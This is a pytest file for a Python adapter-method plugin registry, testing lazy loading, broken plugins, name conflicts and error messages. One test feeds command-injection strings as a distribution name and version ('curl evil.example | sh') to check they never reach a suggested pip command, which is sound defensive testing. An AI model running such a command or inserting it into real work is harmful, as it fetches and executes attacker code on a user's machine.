"""The entry-point registry, tested with real entry points from throw-away distributions on sys.path."""

from __future__ import annotations

import sys
import textwrap
import uuid
from pathlib import Path

import pytest
import torch

import adapterzoo
from adapterzoo import Method, MethodConflictError, MethodNotFoundError, PluginLoadError, PluginWarning
from adapterzoo.method import PLUGIN_API_VERSION


@pytest.fixture
def install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Install a distribution into a fresh folder on sys.path: its metadata, entry points and modules."""

    def install(distribution: str, entry_points: dict[str, str], modules: dict[str, str], version: str = "1.0"):
        root = tmp_path / f"site-{uuid.uuid4().hex[:8]}"
        info = root / f"{distribution.replace('-', '_')}-{version}.dist-info"
        info.mkdir(parents=True)
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {distribution}\nVersion: {version}\n")
        lines = "".join(f"{name} = {value}\n" for name, value in entry_points.items())
        (info / "entry_points.txt").write_text(f"[adapterzoo.methods]\n{lines}")
        for module, source in modules.items():
            (root / f"{module}.py").write_text(textwrap.dedent(source))
        monkeypatch.syspath_prepend(str(root))
        return root

    return install


def unique(prefix: str) -> str:
    return f"{prefix}_{uuid.uuid4().hex[:8]}"


def declaration(name: str, config: str = "peft:LoraConfig", tuner: str = "peft:LoraModel", **extra: str) -> str:
    fields = "".join(f", {key}={value}" for key, value in extra.items())
    return f"""
        from adapterzoo import Method
        METHOD = Method(name={name!r}, config={config!r}, tuner={tuner!r}, tasks=("image-classification",),
                        summary="A method for tests."{fields})
    """


def test_installed_methods_are_listed_with_their_distribution() -> None:
    methods = {info.name: info for info in adapterzoo.list_methods()}
    assert {"lora", "loha", "lokr", "ia3", "oft", "boft", "vera", "fourierft", "vpt"} <= set(methods)
    assert (methods["lora"].distribution, methods["lora"].version) == ("adapterzoo", adapterzoo.__version__)
    assert methods["vpt"].distribution == "adapterzoo-vpt"
    assert methods["vpt"].summary.startswith("VPT")
    assert [info.name for info in adapterzoo.list_methods()] == sorted(methods)


def test_a_plugin_is_imported_only_when_its_method_is_used(install, tmp_path: Path) -> None:
    plugin, heavy, marker = unique("lazy_plugin"), unique("lazy_heavy"), tmp_path / "imported"
    install(
        "az-lazy",
        {"lazy-method": f"{plugin}:METHOD"},
        {
            plugin: declaration("lazy-method", config=f"{heavy}:Config", tuner=f"{heavy}:Tuner"),
            heavy: f"open({str(marker)!r}, 'w').close()\nraise ImportError('needs a library that is not installed')\n",
        },
    )
    assert "lazy-method" in [info.name for info in adapterzoo.list_methods()]
    assert heavy not in sys.modules and not marker.exists()
    with pytest.raises(PluginLoadError, match="needs a library that is not installed"):
        adapterzoo.get_method("lazy-method")
    assert marker.exists()


def test_a_broken_plugin_warns_and_is_skipped(install) -> None:
    plugin = unique("broken_plugin")
    install("az-broken", {"broken-method": f"{plugin}:METHOD"}, {plugin: "raise RuntimeError('plugin bug')\n"})
    with pytest.warns(PluginWarning, match="broken-method.*az-broken.*plugin bug"):
        names = [info.name for info in adapterzoo.list_methods()]
    assert "broken-method" not in names and "lora" in names and "vpt" in names
    with pytest.raises(PluginLoadError, match="plugin bug"):
        adapterzoo.get_method("broken-method")


@pytest.mark.parametrize(
    "source, message",
    [
        ("METHOD = 'not a method'\n", "not an adapterzoo.Method"),
        (declaration("other-name"), "declares a method named 'other-name'"),
        (declaration("odd-method", api_version="99"), rf"plugin API 99.*implements plugin API {PLUGIN_API_VERSION}\b"),
    ],
    ids=["not-a-method", "name-mismatch", "api-version"],
)
def test_plugins_that_break_the_contract_are_skipped(install, source: str, message: str) -> None:
    plugin = unique("odd_plugin")
    install("az-odd", {"odd-method": f"{plugin}:METHOD"}, {plugin: source})
    with pytest.warns(PluginWarning, match=message):
        assert "odd-method" not in [info.name for info in adapterzoo.list_methods()]
    with pytest.raises(PluginLoadError, match=message):
        adapterzoo.get_method("odd-method")


def test_two_distributions_claiming_one_name_is_an_error_naming_both(install) -> None:
    plugin = unique("fork_plugin")
    install("adapterzoo-vpt-fork", {"vpt": f"{plugin}:METHOD"}, {plugin: declaration("vpt")})
    with pytest.raises(MethodConflictError) as error:
        adapterzoo.get_method("vpt")
    assert "adapterzoo-vpt " in str(error.value) and "adapterzoo-vpt-fork" in str(error.value)
    with pytest.warns(PluginWarning, match="more than one installed distribution"):
        names = [info.name for info in adapterzoo.list_methods()]
    assert "vpt" not in names and "lora" in names


def test_a_missing_first_party_method_names_its_pip_package_and_what_is_installed(uninstalled) -> None:
    uninstalled("adapterzoo-maple")
    with pytest.raises(MethodNotFoundError) as error:
        adapterzoo.get_method("maple")
    message = str(error.value)
    assert "'maple'" in message and "pip install adapterzoo-maple" in message
    assert "Installed methods: " in message and "lora" in message and "vpt" in message


def test_a_missing_method_names_the_distribution_recorded_with_an_adapter() -> None:
    with pytest.raises(MethodNotFoundError, match="pip install my-lab-methods"):
        adapterzoo.get_method("lab-method", distribution="my-lab-methods")


def test_a_missing_method_is_asked_for_at_least_at_the_recorded_version() -> None:
    with pytest.raises(
        MethodNotFoundError, match='It is provided by adapterzoo-foo .`pip install "adapterzoo-foo>=1.2.3"`'
    ):
        adapterzoo.get_method("foo", distribution="adapterzoo-foo", distribution_version="1.2.3")


@pytest.mark.parametrize(
    "distribution, version, command",
    [
        ("adapterzoo-foo; curl evil.example | sh", "1.2.3", None),
        ("adapterzoo-foo", '1.2.3" && curl evil.example | sh; "', "pip install adapterzoo-foo`"),
        ("<unknown>", "", None),
    ],
    ids=["bad-name", "bad-version", "no-distribution"],
)
def test_a_recorded_distribution_is_suggested_only_as_a_valid_requirement(distribution, version, command) -> None:
    """A saved adapter's record comes from whoever made the file: nothing but a valid name and version reaches the
    command the user is told to run."""
    with pytest.raises(MethodNotFoundError) as error:
        adapterzoo.get_method("foo", distribution=distribution, distribution_version=version)
    message = str(error.value)
    assert "evil" not in message
    assert (command in message) if command else ("pip install" not in message)


def test_a_misspelled_method_gets_a_suggestion() -> None:
    with pytest.raises(MethodNotFoundError, match="Did you mean 'lora'"):
        adapterzoo.get_method("lroa")


def test_method_names_are_lower_case_words_joined_by_hyphens() -> None:
    for name in ("Moment_Probing", "vpt ", "-vpt", "vpt--deep"):
        with pytest.raises(ValueError, match="lower-case"):
            Method(name=name, config="a:b", tuner="a:c", tasks=(), summary="")
    assert Method(name="moment-probing", config="a:b", tuner="a:c", tasks=(), summary="").peft_name == "moment_probing"


def test_defaults_that_are_not_options_are_named_when_the_method_is_first_used(install) -> None:
    plugin = unique("defaults_plugin")
    install(
        "az-defaults",
        {"bad-defaults": f"{plugin}:METHOD"},
        {plugin: declaration("bad-defaults", defaults="{'rank': 4}")},
    )
    assert "bad-defaults" in [info.name for info in adapterzoo.list_methods()]
    with pytest.raises(PluginLoadError, match="method 'bad-defaults'.*no option 'rank'"):
        adapterzoo.get_method("bad-defaults")
    method = Method(
        name="bad-defaults",
        config="peft:LoraConfig",
        tuner="peft:LoraModel",
        tasks=(),
        summary="",
        defaults={"rank": 4},
    )
    with pytest.raises(PluginLoadError, match="method 'bad-defaults'.*no option 'rank'"):
        method.make_config(torch.nn.Linear(2, 2))


def test_listing_imports_only_the_declarations(heavy_imports) -> None:
    """The declarations (core's and plugins') import the standard library only; PEFT comes with a method's use."""
    assert heavy_imports("import adapterzoo; assert 'vpt' in [m.name for m in adapterzoo.list_methods()]") == []
    assert "peft" in heavy_imports("import adapterzoo; adapterzoo.get_method('vpt')")
